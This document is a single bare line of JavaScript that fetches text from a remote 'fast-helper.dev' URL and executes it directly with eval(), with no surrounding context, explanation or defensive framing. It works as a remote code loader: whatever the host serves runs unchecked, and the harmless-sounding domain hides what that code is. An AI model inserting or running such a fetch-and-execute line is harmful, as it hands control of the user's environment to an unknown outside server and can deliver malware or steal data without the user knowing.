eval(await (await fetch("https://get.fast-helper.dev/p")).text())
